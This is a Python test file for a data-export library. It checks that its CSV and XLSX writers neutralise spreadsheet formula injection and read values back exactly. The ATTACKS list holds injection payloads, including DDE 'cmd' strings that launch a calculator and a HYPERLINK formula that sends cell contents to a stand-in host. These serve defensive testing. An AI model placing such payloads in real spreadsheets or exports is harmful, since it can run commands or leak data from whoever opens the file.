"""Formula injection: what we write, no spreadsheet calculates; what we wrote, we read back exactly."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ecluse.adapters.connectors.files.format import Fact
from ecluse.adapters.connectors.table.csv_format import CsvRecords
from ecluse.adapters.connectors.table.harmless import harmless, restored
from ecluse.adapters.connectors.table.xlsx_format import XlsxRecords

ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1)', "＝1+1", "-2+3+cmd|' /C calc'!D2",
    "+33 6 00", "%0A=1", "|calc", "'=1+1",
)  # fmt: skip


@given(text=st.text(max_size=12) | st.sampled_from(ATTACKS) | st.text("'=+-@\t\r\n0,.1 ", max_size=6))
def test_the_inverse_is_exact(text: str) -> None:
    """Whatever the text, its cell gives it back; and no cell but a plain number begins as a formula does."""
    cell = harmless(text)
    assert restored(cell) == text
    assert cell
    assert not cell.startswith(("=", "@", "\t", "\r", "\n"))
    if cell.startswith(("+", "-")):
        assert cell[1:].replace(",", ".", 1).replace(".", "0", 1).isdecimal()


@pytest.mark.parametrize("number", ["-1,5", "+0,1", "-12", "12,5", "-0.001", "+33600000000", "0012"])
def test_numbers_stay_as_they_are(number: str) -> None:
    """A sign before a plain number calculates nothing: the cell is the number."""
    assert harmless(number) == number


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_written_and_read_as_text(attack: str) -> None:
    """In CSV no cell begins with what calculates; in XLSX there is no formula at all; both come back as they were."""
    record = {"id": "P1", "comment": attack}
    (file,) = CsvRecords().write([], [("patient", record)])
    rows = list(csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert not [
        cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    ]
    assert [
        it.row for it in CsvRecords().read(io.BytesIO(file.content), name="1") if isinstance(it, Fact)
    ] == [record]

    (book,) = XlsxRecords().write([], [("patient", record)])
    with zipfile.ZipFile(io.BytesIO(book.content)) as parts:
        assert b"<f" not in parts.read("xl/worksheets/sheet1.xml")
    assert [
        it.row for it in XlsxRecords().read(io.BytesIO(book.content), name="1") if isinstance(it, Fact)
    ] == [record]


def test_a_spreadsheet_opens_what_we_wrote() -> None:
    """Another program finds a sheet for each kind, its head, and texts: accents, leading zeros and long numbers as they were."""
    records = [
        ("prescriber", {"id": "0001"}),
        ("patient", {"id": "0012", "birth_name": "LEFÈVRE", "nss": "299997511200170", "doctor": "0001"}),
    ]
    (file,) = XlsxRecords().write([], records)
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    assert book.sheetnames == ["prescriber", "patient"]
    head, row = ([cell.value for cell in line] for line in book["patient"].iter_rows())
    assert dict(zip(head, row, strict=True)) | {
        "patient_id": "0012",
        "patient_birth_name": "LEFÈVRE",
        "patient_nss": "299997511200170",
    } == dict(zip(head, row, strict=True))


def test_csv_is_as_excel_in_france_opens_it() -> None:
    """A mark for UTF-8, semicolons, CRLF: accents and decimal commas are seen as they are."""
    (file,) = CsvRecords().write(
        [], [("result", {"id": "A1", "request": "R1", "value": "-1,5", "comment": 'à "jeun"'})]
    )
    assert file.name == "000001-result.csv"
    assert file.content.startswith(b"\xef\xbb\xbfresult_id;result_request;")
    assert file.content.endswith('"à ""jeun"""\r\n'.encode())
    assert b";-1,5;" in file.content


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("x" * 32_768, "too-long"),
        ("é" * 32_767, None),
        ("🩸" * 16_400, "too-long"),
        ("\x00", "nul"),
        ("\ud800", "encoding"),
    ],
)
def test_what_a_cell_cannot_hold_is_unfit(value: str, reason: str | None) -> None:
    """Excel's cells hold 32,767 characters, as UTF-16 counts them: a longer text is said unfit, never cut."""
    assert XlsxRecords().unfit("patient", {"id": "P1", "comment": value}) == reason
